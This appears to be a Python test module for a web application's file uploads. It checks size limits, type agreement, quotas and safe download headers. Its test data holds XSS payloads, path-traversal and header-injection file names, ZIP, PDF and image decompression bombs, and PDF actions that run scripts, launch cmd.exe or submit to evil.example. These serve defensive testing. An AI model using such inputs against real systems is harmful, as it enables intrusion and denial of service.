"""S-FU: what is uploaded, and what comes back of it."""
import io
import itertools
import re
import struct
import time
import urllib.parse
import zipfile
import zlib

from checks import check, elsewhere, expect, expect_status, missing, not_applicable
from talk import Line, new_key, request
from town import COOKIE
from uploads import pdf

MIB = 1 << 20
FILE_MAX = 20 * MIB
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def chunk(name, data):
    """A part of a PNG."""
    body = name + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


def png(more=b"", width=40, height=40):
    """White; with more parts before its pixels."""
    rows = b"".join(b"\0" + b"\xff" * 3 * 40 for _ in range(40))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + more + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


def workbook(parts=(), sheet="<sheetData/>", prologue=""):
    """The smallest one that opens, with more parts."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    relations = "http://schemas.openxmlformats.org/package/2006/relationships"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    head = '<?xml version="1.0" encoding="UTF-8"?>'
    kinds = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("[Content_Types].xml", (
            f'{head}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{kinds}.sheet.main+xml"/>'
            f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kinds}.worksheet+xml"/>'
            "</Types>"))
        book.writestr("_rels/.rels", f'{head}<Relationships xmlns="{relations}"><Relationship Id="r1"'
                      f' Type="{office}/officeDocument" Target="xl/workbook.xml"/></Relationships>')
        book.writestr("xl/workbook.xml", f'{head}<workbook xmlns="{main}" xmlns:r="{office}"><sheets>'
                      '<sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>')
        book.writestr("xl/_rels/workbook.xml.rels", f'{head}<Relationships xmlns="{relations}">'
                      f'<Relationship Id="r1" Type="{office}/worksheet" '
                      'Target="worksheets/sheet1.xml"/></Relationships>')
        book.writestr("xl/worksheets/sheet1.xml",
                      f'{head}{prologue}<worksheet xmlns="{main}">{sheet}</worksheet>')
        for name, content in parts:
            book.writestr(name, content)
    return out.getvalue()


JPEG = bytes.fromhex(  # one grey pixel
    "ffd8ffe000104a46494600010100000100010000ffdb004300" + "08" * 64 +
    "ffc0000b080001000101011100ffc4001f0000010501010101010100000000000000000102030405060708090a0b"
    "ffc400b5100002010303020403050504040000017d01020300041105122131410613516107227114328191a10823"
    "42b1c11552d1f02433627282090a161718191a25262728292a3435363738393a434445464748494a535455565758"
    "595a636465666768696a737475767778797a838485868788898a92939495969798999aa2a3a4a5a6a7a8a9aab2b3"
    "b4b5b6b7b8b9bac2c3c4c5c6c7c8c9cad2d3d4d5d6d7d8d9dae1e2e3e4e5e6e7e8e9eaf1f2f3f4f5f6f7f8f9fa"
    "ffda0008010100003f00fbd3ffd9")


@check("S-FU 30a", "5.2.1", "20 MiB are taken, one byte more is not: 413")
def sizes(town):
    padding = f"%{'x' * (FILE_MAX - len(pdf('large')) - 2)}\n"
    whole = pdf("large").replace("trailer", padding + "trailer").encode()
    expect(len(whole) == FILE_MAX, len(whole))
    # The table's place has not moved: what was added comes after it.
    expect_status(town.upload(whole, "application/pdf"), 201)
    head = (f"POST /api/v1/files?name=a.pdf HTTP/1.1\r\nHost: h\r\nCookie: {COOKIE}="
            f"{town.provider().cookie}\r\nContent-Type: application/pdf\r\nIdempotency-Key: "
            f"{new_key()}\r\nContent-Length: {FILE_MAX + 1}\r\n\r\n").encode()
    expect_status(town.alone(head + whole[:MIB]), 413)


@check("S-FU 30b", "5.2.1", "a body without end is cut at the limit, a lying length is 413; memory flat")
def endless(town):
    before = town.server.memory_mib()
    head = (f"POST /api/v1/files?name=a.pdf HTTP/1.1\r\nHost: h\r\nCookie: {COOKIE}="
            f"{town.provider().cookie}\r\nContent-Type: application/pdf\r\n"
            "Idempotency-Key: {}\r\n{}\r\n\r\n")
    lying = head.format(new_key(), "Content-Length: 9999999999").encode()
    expect_status(town.alone(lying), 413)
    line = Line(town.server.port)
    line.send(head.format(new_key(), "Transfer-Encoding: chunked").encode())
    piece, sent = b"10000\r\n" + b"x" * 0x10000 + b"\r\n", 0
    try:
        while sent < 100 * MIB:
            line.send(piece)
            sent += 0x10000
    except OSError:
        pass
    expect(sent <= 55 * MIB, f"{sent // MIB} MiB were read")
    line.close()
    expect(town.server.memory_mib() - before < 30, f"{before} MiB became {town.server.memory_mib()}")
    expect(left_over(town) == [], f"left over: {left_over(town)}")


def left_over(town, seconds=3):
    """Unfinished files, once the server had time to remove them."""
    end = time.monotonic() + seconds
    while (found := [path.name for path in town.files_folder().glob("incoming-*")]):
        if time.monotonic() > end:
            break
        time.sleep(0.1)
    return found


@check("S-FU 30c", "5.2.1, 2.4.1", "who may not upload is told so before the file is read")
def strangers_uploads(town):
    for cookie in ("", f"Cookie: {COOKIE}={town.people.by_role['auditor'].cookie}\r\n"):
        line = Line(town.server.port, timeout=10)
        line.send((f"POST /api/v1/files?name=a.pdf HTTP/1.1\r\nHost: h\r\n{cookie}Content-Type: "
                   f"application/pdf\r\nIdempotency-Key: {new_key()}\r\nContent-Length: 1000000"
                   "\r\n\r\n%PDF-1.4").encode())
        expect_status(line.receive(), 401, 403)
        line.close()


KINDS = {"pdf": "application/pdf", "png": "image/png", "jpg": "image/jpeg", "xlsx": XLSX,
         "html": "text/html", "svg": "image/svg+xml", "exe": "application/octet-stream"}


def bytes_of_kinds():
    return {"pdf": pdf("kinds").encode(), "png": png(), "jpg": JPEG, "xlsx": workbook(),
            "html": b"<!doctype html><script>alert(1)</script>",
            "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
            "exe": b"MZ" + b"\0" * 200}


@check("S-FU 31", "5.2.2", "343 of extension, bytes and declared type: taken where all three agree")
def three_ways(town):
    contents = bytes_of_kinds()
    for extension, kind, declared in itertools.product(KINDS, contents, KINDS):
        answer = town.upload(contents[kind], KINDS[declared], f"a.{extension}")
        agree = extension == kind == declared and kind in ("pdf", "png", "jpg", "xlsx")
        wanted = (201,) if agree else (400, 415, 422)
        expect(answer.status in wanted,
               f"a.{extension} of {kind} as {declared}: {answer.status} {answer.text[:120]}")


@check("S-FU 32", "5.2.3, 5.2.6", "bombs of ZIP, PDF and pixels: refused within 5 s")
def bombs(town):
    zeros = b"\0" * (40 * MIB)
    deflated = zlib.compress(zeros, 9)
    packed_pdf = (b"%PDF-1.5\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
                  b"2 0 obj\n<</Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]/Length "
                  + str(len(zlib.compress(deflated))).encode() + b">>\nstream\n"
                  + zlib.compress(deflated) + b"\nendstream\nendobj\n"
                  b"trailer\n<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n")
    cases = {
        "a part of 80 MiB": (workbook([("xl/media/a.bin", zeros * 2)]), XLSX, "a.xlsx"),
        "5000 parts": (workbook([(f"xl/p{n}.xml", "x") for n in range(5000)]), XLSX, "a.xlsx"),
        "a nested ZIP": (workbook([("xl/in.zip", workbook([("a", zeros)]))] * 1), XLSX, "a.xlsx"),
        "packed objects of PDF": (packed_pdf, "application/pdf", "a.pdf"),
        "50,000 x 50,000 pixels": (png(width=50_000, height=50_000), "image/png", "a.png")}
    for name, (data, media_type, file_name) in cases.items():
        began = time.monotonic()
        answer = town.upload(data, media_type, file_name)
        took = time.monotonic() - began
        if name == "a nested ZIP":  # is not unpacked, so it does no harm
            expect(answer.status in (201, 422), f"{name}: {answer.status}")
        else:
            expect(answer.status == 422, f"{name}: {answer.status} {answer.text[:150]}")
        expect(took < 5, f"{name}: {took:.1f} s")


not_applicable("S-FU 32b", "5.2.5", "symbolic links in archives", "no archive is unpacked to files")

NAMES = ["../a.pdf", "..\\a.pdf", "/etc/passwd", "C:\\a.pdf", "a/b.pdf", "%00.pdf", "a%00.pdf",
         "a%0d%0aSet-Cookie:x=1.pdf", "..%c0%af..%c0%afa.pdf", "a%c0%80.pdf", "a.pdf:x.exe",
         "%e2%80%aefdp.exe", "%e2%80%aefdp.pdf", "a%e2%80%8b.pdf", "%1b[2Ja.pdf", "a" * 301 + ".pdf",
         "%2e%2e%2fa.pdf", "..%252fa.pdf", "con.pdf", ".htaccess", "a.pdf%20", "%22;x=%22.pdf",
         "a;filename=b.exe.pdf", "合同.pdf".encode().hex(" ").replace(" ", "%").join(["%", ""])]
REFUSED = NAMES[:10] + NAMES[10:17]


@check("S-FU 33", "5.3.1, 5.3.2, 5.3.3", "names as paths, with controls or turned around: refused or data")
def names(town):
    before = {path for path in town.folder.rglob("*")}
    for number, name in enumerate(NAMES):
        answer = town.upload(pdf(f"name {number}").encode(), "application/pdf", name)
        expect(answer.status in ((400, 415) if name in REFUSED else (201, 400, 415)),
               f"{name}: {answer.status}")
    for path in set(town.folder.rglob("*")) - before:
        is_ours = re.fullmatch(r"[0-9a-f]{64}|zuoquan\.db.*", path.name) or "outbox" in path.parts
        expect(path.is_dir() or is_ours, path)
    kept = [name for name, in town.database.rows("select name from stored_file")]
    for name in kept:
        expect(not re.search("[\x00-\x1f\x7f/\\\\\u202a-\u202e\u2066-\u2069\u200b-\u200f]", name), name)
    for body_name in ("a\r\nX: y.pdf", "\u202efdp.exe", "../a.pdf", "a\x00.pdf"):
        answer = town.ask("POST", "/api/v1/uploads", town.provider(), {
            "name": body_name, "media_type": "application/pdf", "bytes": 5})
        expect_status(answer, 400, 415)


@check("S-FU 34", "5.4.1, 5.4.2, 3.2.1", "downloads are attachments, sandboxed, never sniffed")
def downloads(town):
    name = "a \"b\"; filename=c.html 合同.pdf"
    digest = expect_status(town.upload(pdf("down").encode(), "application/pdf",
                                       urllib.parse.quote(name)), 201).body["digest"]
    answer = expect_status(town.get(f"/api/v1/files/{digest}", town.provider()), 200)
    disposition = answer.headers["content-disposition"]
    expect(re.fullmatch(r"attachment; filename\*=UTF-8''[A-Za-z0-9._%-]+", disposition), disposition)
    expect(urllib.parse.unquote(disposition.split("''")[1]) == name, disposition)
    expect(answer.headers["content-type"] == "application/pdf", answer.headers["content-type"])
    expect(answer.headers["x-content-type-options"] == "nosniff", "sniffed")
    expect("sandbox" in answer.headers["content-security-policy"], "not sandboxed")
    expect(answer.headers["cache-control"] == "no-store", "may be stored")
    page = expect_status(town.get(f"/api/v1/files/{digest}/pages/1", town.provider()), 200)
    expect(page.headers["content-type"] == "image/png", page.headers["content-type"])


missing("S-FU 34b", "3.5.4", "files come from another host than the pages",
        "they come from the same one, as attachments in a sandbox")
elsewhere("S-FU 35", "5.4.3", "what a virus scanner finds is not taken; without it nothing is",
          "faults test_virus_scanner, with a real clamd")


@check("S-FU 36", "5.2.4", "files and bytes are limited for each organisation")
def full_storage(town):
    server, owner = town.plain(), town.people.by_role["provider-owner"]
    line = Line(server.port)

    def begun():
        line.send(request("POST", "/api/v1/uploads", {"Cookie": f"zuoquan={owner.cookie}"},
                          {"name": "a.pdf", "media_type": "application/pdf", "bytes": 10}))
        return line.receive()
    expect_status(begun(), 201)
    held = (20 << 30) - 9
    town.plain_database.write(
        "insert into stored_file (digest, media_type, bytes, owner, name, at, pages, scanned, read_by) values "
        f"('{'0' * 64}', 'application/pdf', {held}, {owner.organisation}, 'a.pdf', 1, 1, 0, 0)")
    answer = begun()
    expect_status(answer, 413)
    expect(answer.code() == "storage-full", answer.text)
    line.close()



@check("S-FU 37", "1.3.5, 5.4.3", "PDF that acts: scripts, launching, embedded files, XFA, locked: 422")
def active_pdfs(town):
    catalog = "<</Type/Catalog/Pages 2 0 R>>"
    for more in ("/OpenAction<</S/JavaScript/JS(app.alert(1))>>", "/AA<</WC<</S/JavaScript/JS(1)>>>>",
                 "/OpenAction<</S/Launch/F(cmd.exe)>>", "/OpenAction<</S/URI/URI(http://127.0.0.1/)>>",
                 "/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(1)>>]>>>>",
                 "/Names<</EmbeddedFiles<</Names[(a)<</EF<</F 4 0 R>>>>]>>>>",
                 "/AcroForm<</XFA(x)/Fields[]>>",
                 "/OpenAction<</S/GoToR/F(//evil.example/a.pdf)>>",
                 "/OpenAction<</S/SubmitForm/F(http://evil.example/)>>"):
        data = shifted(pdf("act").replace(catalog, f"<</Type/Catalog/Pages 2 0 R{more}>>"))
        answer = town.upload(data.encode(), "application/pdf")
        expect(answer.status == 422, f"{more}: {answer.status}")
    locked = pdf("locked").replace("/Size 6>>", "/Size 6/Encrypt<</Filter/Standard/V 1/R 2/P -4"
                                   "/O(00000000000000000000000000000000)"
                                   "/U(00000000000000000000000000000000)>>/ID[(a)(a)]>>")
    expect_status(town.upload(locked.encode(), "application/pdf"), 422)


def shifted(text):
    """The table of places written anew after something before it has grown."""
    places = [text.index(f"\n{number} 0 obj") + 1 for number in range(1, 6)]
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    head, rest = text[:text.index("xref\n")], text[text.index("trailer"):]
    return (f"{head}xref\n0 6\n0000000000 65535 f \n{table}" +
            re.sub(r"startxref\n\d+", f"startxref\n{len(head)}", rest))


@check("S-FU 38", "14.2.8", "pages drawn for others bear no words or places of the camera")
def metadata(town):
    canary = b"GPS 39.9042N 116.4074E canary"
    data = png(chunk(b"tEXt", b"Comment\0" + canary) + chunk(b"eXIf", b"MM\0*" + canary))
    digest = expect_status(town.upload(data, "image/png", "a.png"), 201).body["digest"]
    page = expect_status(town.get(f"/api/v1/files/{digest}/pages/1", town.provider()), 200)
    expect(b"canary" not in page.content and b"eXIf" not in page.content, "the picture tells")
